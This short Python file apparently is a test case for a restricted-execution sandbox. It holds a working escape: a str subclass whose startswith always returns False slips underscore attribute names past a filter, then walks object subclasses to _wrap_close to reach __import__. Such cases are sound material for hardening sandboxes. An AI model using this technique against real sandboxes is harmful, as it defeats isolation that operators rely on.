# kind: capability
# A str subclass that lies about startswith, as the attribute name given
# to getattr.
class S(str):
    def startswith(self, *a):
        return False


def ga(o, n):
    return getattr(o, S(n))


for c in ga(ga(ga((), "__class__"), "__base__"), "__subclasses__")():
    if ga(c, "__name__") == "_wrap_close":
        payload(ga(ga(c, "__init__"), "__globals__")["__builtins__"]["__import__"])
